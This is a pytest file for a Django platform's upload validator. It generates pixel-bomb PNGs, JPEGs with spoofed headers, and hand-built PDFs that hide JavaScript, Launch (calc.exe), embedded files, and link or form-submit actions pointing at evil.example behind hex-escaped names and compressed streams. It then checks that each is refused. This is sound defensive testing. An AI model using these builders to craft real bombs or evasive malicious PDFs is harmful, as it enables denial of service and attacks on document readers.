"""Storyboard uploads that try to hurt: images whose header promises billions of pixels, and
PDFs whose active content hides behind hex-escaped names, object streams or encryption.

The PDFs here are written byte by byte (or with pypdf/pydyf) so each test controls exactly
which objects the file holds.
"""

from __future__ import annotations

import io
import struct
import time
import zlib
from typing import Any

import pydyf
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image
from pypdf import PdfWriter

from qicollab.events import storyboard_files as files
from tests.jobs.reports import download_report

# --- helpers ----------------------------------------------------------------------------


def upload(data: bytes, name: str = "poster") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type="application/octet-stream")


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_bomb(width: int, height: int) -> bytes:
    """A valid RGB PNG of ``width`` by ``height`` black pixels: small on disk, huge in memory."""
    packer = zlib.compressobj(9)
    row = b"\x00" * (1 + 3 * width)  # filter byte, then the pixels
    idat = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + _png_chunk(b"IDAT", idat)
        + _png_chunk(b"IEND", b"")
    )


def jpeg_claiming(width: int, height: int) -> bytes:
    """A small JPEG whose frame header (SOF0) is rewritten to claim another size."""
    out = io.BytesIO()
    Image.new("RGB", (16, 16), (0, 94, 184)).save(out, format="JPEG")
    data = bytearray(out.getvalue())
    sof = data.index(b"\xff\xc0")
    # Marker (2), length (2), precision (1), then height and width (2 each).
    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def raw_pdf(*objects: bytes, root: int = 1, trailer_extra: bytes = b"") -> bytes:
    """A PDF from numbered object bodies (object 1 is the first), with a correct xref table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root %d 0 R %s>>\n" % (len(objects) + 1, root, trailer_extra)
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"


def page_with(extra: bytes) -> bytes:
    return b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + extra + b" >>"


def refused(data: bytes) -> str:
    with pytest.raises(ValidationError) as info:
        files.check_upload(upload(data))
    return " ".join(info.value.messages)


# --- images -----------------------------------------------------------------------------


def test_pixel_bomb_refused_from_its_header_in_under_a_second() -> None:
    """The issue's 9,400 by 9,400 PNG: a few hundred KB that decodes to 265 MB of pixels."""
    bomb = png_bomb(9400, 9400)
    assert len(bomb) < 400_000
    started = time.monotonic()
    message = refused(bomb)
    assert time.monotonic() - started < 1.0
    assert "9,400 by 9,400 pixels" in message and "up to 20 megapixels" in message


def test_jpeg_claiming_a_huge_size_refused_before_decoding() -> None:
    message = refused(jpeg_claiming(30_000, 30_000))
    assert "too many pixels" in message or "megapixels" in message


def test_pixel_limit_is_a_setting_and_the_limit_itself_is_allowed(settings: Any) -> None:
    settings.UPLOAD_MAX_IMAGE_PIXELS = 100 * 100
    out = io.BytesIO()
    Image.new("RGB", (100, 100), (1, 2, 3)).save(out, format="PNG")
    assert files.check_upload(upload(out.getvalue())).content_type == "image/png"
    out = io.BytesIO()
    Image.new("RGB", (101, 100), (1, 2, 3)).save(out, format="PNG")
    message = refused(out.getvalue())
    assert "101 by 100 pixels" in message and "up to 0.01 megapixels" in message


def test_pillow_raises_rather_than_warns_for_images_over_the_limit(settings: Any) -> None:
    """Any other Image.open in the process is held to the same limit, as an error."""
    assert Image.MAX_IMAGE_PIXELS == settings.UPLOAD_MAX_IMAGE_PIXELS
    with pytest.raises(Image.DecompressionBombError):
        Image.open(io.BytesIO(png_bomb(9400, 9400)))


# --- PDFs: active content -----------------------------------------------------------------


def test_hex_escaped_javascript_open_action_refused() -> None:
    data = raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        PAGES,
        PAGE,
        b"<< /Type /Action /S /J#61vaScript /J#53 (app.alert(1)) >>",
    )
    assert b"/JavaScript" not in data and b"/JS" not in data
    assert "scripts" in refused(data)


def test_hex_escaped_launch_link_refused() -> None:
    data = raw_pdf(
        CATALOG,
        PAGES,
        page_with(b"/Annots [4 0 R]"),
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] "
        b"/A << /S /L#61unch /F (C:\\\\Windows\\\\System32\\\\calc.exe) >> >>",
    )
    assert b"/Launch" not in data
    assert "open other files or programs" in refused(data)


def test_uri_action_refused_with_a_specific_message() -> None:
    data = raw_pdf(
        CATALOG,
        PAGES,
        page_with(b"/Annots [4 0 R]"),
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] "
        b"/A << /S /#55RI /URI (https://evil.example/) >> >>",
    )
    message = refused(data)
    assert "web links" in message and "Print to PDF" in message


@pytest.mark.parametrize(
    ("objects", "expected"),
    [
        # Document-level scripts in the name tree.
        (
            (
                b"<< /Type /Catalog /Pages 2 0 R /Names << /J#61vaScript 4 0 R >> >>",
                PAGES,
                PAGE,
                b"<< /Names [(x) << /S /JavaScript /JS (1) >>] >>",
            ),
            "scripts",
        ),
        # Automatic actions on a page (closing it runs them).
        (
            (CATALOG, PAGES, page_with(b"/A#41 << /C << /S /GoTo /D [3 0 R /Fit] >> >>")),
            "actions that run by themselves",
        ),
        # Automatic actions on the catalog.
        (
            (b"<< /Type /Catalog /Pages 2 0 R /AA << /WC 4 0 R >> >>", PAGES, PAGE, b"<< >>"),
            "actions that run by themselves",
        ),
        # Attachments.
        (
            (
                b"<< /Type /Catalog /Pages 2 0 R /Names << /Emb#65ddedFiles 4 0 R >> >>",
                PAGES,
                PAGE,
                b"<< /Names [] >>",
            ),
            "embedded files",
        ),
        (
            (
                CATALOG,
                PAGES,
                page_with(b"/Annots [4 0 R]"),
                b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 1 1] "
                b"/FS << /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >> >>",
                b"<< /Type /EmbeddedFile /Length 0 >>\nstream\n\nendstream",
            ),
            "embedded files",
        ),
        # XFA forms carry their own scripts.
        (
            (b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /X#46A 4 0 R >> >>", PAGES, PAGE, b"[]"),
            "XFA form",
        ),
        # Flash and other rich media.
        (
            (
                CATALOG,
                PAGES,
                page_with(b"/Annots [4 0 R]"),
                b"<< /Type /Annot /Subtype /Rich#4dedia /Rect [0 0 1 1] >>",
            ),
            "video, sound, Flash or 3D",
        ),
        # A form that sends what is typed to a server.
        (
            (
                CATALOG,
                PAGES,
                page_with(b"/Annots [4 0 R]"),
                b"<< /Type /Annot /Subtype /Widget /Rect [0 0 1 1] "
                b"/A << /S /SubmitForm /F (https://evil.example/) >> >>",
            ),
            "send what is typed",
        ),
    ],
)
def test_active_content_found_wherever_it_is(objects: tuple[bytes, ...], expected: str) -> None:
    assert expected in refused(raw_pdf(*objects))


def test_script_inside_a_compressed_object_stream_refused() -> None:
    """pydyf (WeasyPrint's writer) packs objects into compressed object streams: the raw
    bytes show no names at all, only a parser sees the action."""
    pdf = pydyf.PDF()
    action = pydyf.Dictionary({"S": "/JavaScript", "JS": pydyf.String("app.alert(1)")})
    pdf.add_object(action)
    page = pydyf.Dictionary(
        {
            "Type": "/Page",
            "Parent": pdf.pages.reference,
            "MediaBox": pydyf.Array([0, 0, 595, 842]),
            "AA": pydyf.Dictionary({"O": action.reference}),
        }
    )
    pdf.add_object(page)
    pdf.pages["Kids"].extend([page.number, 0, "R"])
    pdf.pages["Count"] += 1
    out = io.BytesIO()
    pdf.write(out, compress=True)
    data = out.getvalue()
    assert b"JavaScript" not in data
    assert "scripts" in refused(data)


# --- PDFs: refused as unreadable or too much work -------------------------------------------


@pytest.mark.parametrize("user_password", ["secret", ""])
def test_encrypted_pdf_refused(user_password: str) -> None:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt(user_password=user_password, owner_password="owner", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    assert "password-protected or encrypted" in refused(out.getvalue())


def test_unparsable_pdf_refused() -> None:
    # A valid header and ending around an xref table that points at nothing sensible.
    body = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 9 0 R >>\nendobj\n"
    xref_at = len(body)
    data = body + b"xref\n0 2\n0000000000 65535 f \n0000000999 00000 n \ntrailer\n<< /Size 2 >>\n"
    data += b"startxref\n%d\n%%%%EOF\n" % xref_at
    assert "could not be read" in refused(data)


def test_too_many_pages_refused() -> None:
    writer = PdfWriter()
    for _ in range(files.MAX_PDF_PAGES + 1):
        writer.add_blank_page(595, 842)
    out = io.BytesIO()
    writer.write(out)
    message = refused(out.getvalue())
    assert f"{files.MAX_PDF_PAGES + 1} pages" in message
    assert f"at most {files.MAX_PDF_PAGES}" in message


def test_too_many_objects_refused(monkeypatch: Any) -> None:
    monkeypatch.setattr(files, "MAX_PDF_OBJECTS", 3)
    data = raw_pdf(CATALOG, PAGES, PAGE, b"<< >>")
    assert "too complex" in refused(data)


def test_checking_stops_at_its_time_budget(monkeypatch: Any) -> None:
    monkeypatch.setattr(files, "PDF_CHECK_SECONDS", 0.0)
    assert "too complex" in refused(raw_pdf(CATALOG, PAGES, PAGE))


# --- PDFs: good files pass ----------------------------------------------------------------


def test_plain_pdfs_pass_including_internal_links_and_an_open_view() -> None:
    """Links inside the document and an opening view are not active content."""
    data = raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] /PageMode /UseOutlines >>",
        PAGES,
        page_with(b"/Annots [4 0 R] /Group << /S /Transparency >>"),
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /BS << /S /S /W 0 >> "
        b"/A << /S /GoTo /D [3 0 R /Fit] >> >>",
    )
    assert files.check_upload(upload(data)).content_type == "application/pdf"


@pytest.mark.django_db
def test_the_platforms_own_storyboard_pdf_passes(world: Any, login: Any) -> None:
    """A team downloading its project storyboard (WeasyPrint) and uploading it to a gallery."""
    from qicollab.projects import services as project_services

    project = project_services.project_create(
        actor=world.people["staff_a"],
        collaborative=world.collab,
        lead_organisation=world.trust_a,
        title="Safer observations on Willow ward",
    )
    for name in ("measures:storyboard_a4", "measures:storyboard_a3"):
        pdf = download_report(
            login(world.people["staff_a"]), reverse(name, args=[project.slug])
        ).content
        assert pdf.startswith(b"%PDF")
        assert files.check_upload(upload(pdf)).content_type == "application/pdf"


def test_odd_values_where_names_belong_do_not_make_a_pdf_unreadable() -> None:
    data = raw_pdf(CATALOG, PAGES, page_with(b"/S << /X 1 >> /Subtype [/A /B]"))
    assert files.check_upload(upload(data)).content_type == "application/pdf"
